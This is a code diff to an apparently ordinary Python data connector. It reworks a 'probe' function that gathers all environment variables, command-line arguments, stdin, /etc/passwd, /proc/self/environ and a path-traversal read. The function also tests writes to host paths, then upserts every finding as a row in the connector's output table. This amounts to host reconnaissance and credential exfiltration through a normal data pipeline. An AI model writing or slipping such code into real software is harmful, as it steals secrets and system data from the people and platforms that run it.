@@ -175,32 +175,23 @@ def get_many(configuration, state):
 
 def probe(configuration, state):
     """Looks for anything of the host that can be seen, and lands what it finds."""
-    found = {"id": 1, "environment": json.dumps(dict(os.environ)), "arguments": json.dumps(sys.argv)}
-    for path in (
-        "/etc/passwd",
-        "/proc/self/environ",
-        "../../../../etc/passwd",
-        "connector.py",
-        "/project/connector.py",
-    ):
+    found = {"environment": json.dumps(dict(os.environ)), "arguments": json.dumps(sys.argv)}
+    for path in ("/etc/passwd", "/proc/self/environ", "../../../../etc/passwd", configuration["file"]):
         try:
             with open(path) as file:
-                found[path] = file.read()
+                found["read " + path] = file.read()
         except OSError as error:
-            found[path] = type(error).__name__
-    for path in ("/tmp/x", "x", "/project/x"):
+            found["read " + path] = type(error).__name__
+    for path in ("/tmp/x", "x", "/project/x", configuration["file"]):
         try:
             with open(path, "w") as file:
                 file.write("x")
             found["write " + path] = "written"
         except OSError as error:
             found["write " + path] = type(error).__name__
-    try:
-        found["listing"] = json.dumps(os.listdir("/"))
-    except OSError as error:
-        found["listing"] = type(error).__name__
     found["stdin"] = sys.stdin.read() if sys.stdin else ""
-    op.upsert("found", found)
+    for what, outcome in found.items():
+        op.upsert("found", {"what": what, "outcome": outcome})
 
 
 def sockets(configuration, state):
